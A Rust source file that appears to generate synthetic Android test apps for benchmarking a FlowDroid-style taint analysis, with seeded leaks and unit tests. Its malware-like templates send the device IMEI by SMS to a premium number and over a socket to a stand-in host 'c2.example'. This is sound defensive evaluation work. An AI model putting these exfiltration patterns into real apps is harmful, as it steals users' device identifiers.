//! Seeded synthetic app generator (the RQ3 corpus substitute).
//!
//! The paper analyzes 500 popular Google Play apps and ~1,000 VirusShare
//! malware samples; neither corpus is redistributable. This generator
//! produces apps matching the populations the paper describes:
//!
//! * **benign-like** apps are comparatively large (many classes, deep
//!   helper call chains, UI layouts); most "accidentally" leak an
//!   identifier or location into logs or preference files (the paper:
//!   "the majority of apps was reported to … leak sensitive information
//!   like the IMEI or location data into logs and preference files");
//! * **malware-like** apps are small ("the malware samples seem to be
//!   comparatively small") and contain about two leaks each (1.85 on
//!   average), typically identifiers sent via SMS or to a remote server.

use flowdroid_core::{Job, Rules};
use flowdroid_frontend::App;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Which population to draw from.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AppProfile {
    /// Large app, 0–2 log/preference leaks.
    BenignLike,
    /// Small app, 1–3 SMS/network leaks.
    MalwareLike,
}

/// One generated app with its ground truth.
#[derive(Debug)]
pub struct GeneratedApp {
    /// Package name.
    pub package: String,
    /// Manifest XML.
    pub manifest: String,
    /// `jasm` code.
    pub code: String,
    /// Number of seeded leaks.
    pub seeded_leaks: usize,
    /// Number of classes generated.
    pub class_count: usize,
}

impl GeneratedApp {
    /// The app as an Android app job named after its package, under the
    /// built-in Android rules.
    pub fn job(&self) -> Job {
        let archive = App::bundle(&self.manifest, &[], &self.code);
        Job::app(self.package.clone(), archive, Rules::android())
    }
}

/// Deterministically generates app number `index` of the given profile.
pub fn generate_app(profile: AppProfile, index: usize, seed: u64) -> GeneratedApp {
    let mut rng = StdRng::seed_from_u64(seed ^ (index as u64).wrapping_mul(0x9e37_79b9));
    let package = match profile {
        AppProfile::BenignLike => format!("play.app{index}"),
        AppProfile::MalwareLike => format!("mal.sample{index}"),
    };
    let (n_helpers, leak_budget) = match profile {
        AppProfile::BenignLike => (rng.gen_range(8..28), rng.gen_range(0..=2)),
        AppProfile::MalwareLike => (rng.gen_range(1..5), rng.gen_range(1..=3)),
    };

    let main_cls = format!("{package}.Main");
    let mut code = String::new();
    let mut seeded = 0usize;

    // Helper classes: benign busywork forming call chains.
    for h in 0..n_helpers {
        let cls = format!("{package}.Helper{h}");
        let next = if h + 1 < n_helpers {
            format!(
                "    r = staticinvoke <{package}.Helper{}: java.lang.String work(java.lang.String)>(r)\n",
                h + 1
            )
        } else {
            String::new()
        };
        code.push_str(&format!(
            "class {cls} extends java.lang.Object {{\n  static method work(x: java.lang.String) -> java.lang.String {{\n    let r: java.lang.String\n    r = x + \"#\"\n{next}    return r\n  }}\n}}\n"
        ));
    }

    // Main activity.
    code.push_str(&format!(
        "class {main_cls} extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    ));
    code.push_str(
        "    let o: java.lang.Object\n    let tm: android.telephony.TelephonyManager\n    let id: java.lang.String\n    let v: java.lang.String\n    let sms: android.telephony.SmsManager\n    let prefs: android.content.SharedPreferences\n    let ed: android.content.SharedPreferences$Editor\n    let sock: java.net.Socket\n    let os: java.io.OutputStream\n",
    );
    code.push_str(
        "    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>(\"phone\")\n    tm = (android.telephony.TelephonyManager) o\n    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()\n",
    );
    // Route the identifier through the helper chain (wall-clock work
    // for the analysis proportional to app size).
    if n_helpers > 0 {
        code.push_str(&format!(
            "    v = staticinvoke <{package}.Helper0: java.lang.String work(java.lang.String)>(id)\n"
        ));
    } else {
        code.push_str("    v = id\n");
    }
    for _ in 0..leak_budget {
        let kind = match profile {
            AppProfile::BenignLike => rng.gen_range(0..2),
            AppProfile::MalwareLike => rng.gen_range(2..4),
        };
        match kind {
            // Benign-style: log / preferences.
            0 => code.push_str(
                "    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>(\"analytics\", v)\n",
            ),
            1 => code.push_str(
                "    prefs = virtualinvoke this.<android.content.Context: android.content.SharedPreferences getSharedPreferences(java.lang.String,int)>(\"ids\", 0)\n    ed = virtualinvoke prefs.<android.content.SharedPreferences: android.content.SharedPreferences$Editor edit()>()\n    virtualinvoke ed.<android.content.SharedPreferences$Editor: android.content.SharedPreferences$Editor putString(java.lang.String,java.lang.String)>(\"imei\", v)\n",
            ),
            // Malware-style: SMS / socket.
            2 => code.push_str(
                "    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()\n    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>(\"+prem\", null, v, null, null)\n",
            ),
            _ => code.push_str(
                "    sock = new java.net.Socket\n    specialinvoke sock.<java.net.Socket: void <init>(java.lang.String,int)>(\"c2.example\", 80)\n    os = virtualinvoke sock.<java.net.Socket: java.io.OutputStream getOutputStream()>()\n    virtualinvoke os.<java.io.OutputStream: void write(java.lang.String)>(v)\n",
            ),
        }
        seeded += 1;
    }
    code.push_str("    return\n  }\n}\n");

    let manifest = format!(
        r#"<manifest package="{package}">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#
    );

    GeneratedApp { package, manifest, code, seeded_leaks: seeded, class_count: n_helpers + 1 }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::run_single;
    use flowdroid_core::InfoflowConfig;

    #[test]
    fn generation_is_deterministic() {
        let a = generate_app(AppProfile::MalwareLike, 7, 42);
        let b = generate_app(AppProfile::MalwareLike, 7, 42);
        assert_eq!(a.code, b.code);
        let c = generate_app(AppProfile::MalwareLike, 8, 42);
        assert_ne!(a.code, c.code);
    }

    #[test]
    fn profiles_differ_in_size() {
        let benign: usize =
            (0..20).map(|i| generate_app(AppProfile::BenignLike, i, 1).class_count).sum();
        let mal: usize =
            (0..20).map(|i| generate_app(AppProfile::MalwareLike, i, 1).class_count).sum();
        assert!(benign > 2 * mal, "benign apps are larger: {benign} vs {mal}");
    }

    #[test]
    fn generated_apps_report_their_seeded_leaks() {
        for i in 0..5 {
            for profile in [AppProfile::BenignLike, AppProfile::MalwareLike] {
                let g = generate_app(profile, i, 3);
                let run = run_single(&g.job(), &InfoflowConfig::default());
                assert_eq!(run.leaks, g.seeded_leaks, "{}", g.package);
            }
        }
    }

    #[test]
    fn malware_has_leaks() {
        let leaks: usize =
            (0..50).map(|i| generate_app(AppProfile::MalwareLike, i, 9).seeded_leaks).sum();
        let avg = leaks as f64 / 50.0;
        assert!(avg > 1.0 && avg < 3.0, "malware-like averages ~2 leaks: {avg}");
    }
}
